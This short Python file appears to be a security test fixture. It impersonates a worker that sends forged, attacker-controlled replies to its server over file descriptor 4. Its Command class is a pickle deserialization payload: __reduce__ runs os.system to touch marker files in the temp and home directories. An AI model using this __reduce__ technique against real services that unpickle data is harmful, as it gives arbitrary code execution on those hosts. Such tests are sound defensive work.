import sys


def server():
    """The worker's own server, found on the stack."""
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Server":
            return owner
        frame = frame.f_back


def send(header, body=b"", lengths=None):
    """Bytes of the attacker's choice, framed like a reply."""
    import os
    import struct

    data = struct.pack(">II", *(lengths or (len(header), len(body)))) + header + body
    while data:
        data = data[os.write(4, data):]

import pickle


class Command:
    def __reduce__(self):
        return (__import__("os").system, ("touch @TMP@/@MARK@-pickled @HOME@/@MARK@-pickled",))


def output_size(*args, **kwargs):
    send(pickle.dumps(Command()))


def conv_at(*args, **kwargs):
    os.write(4, pickle.dumps(Command()) * 100)


def conv2d_single(*args, **kwargs):
    return Command()
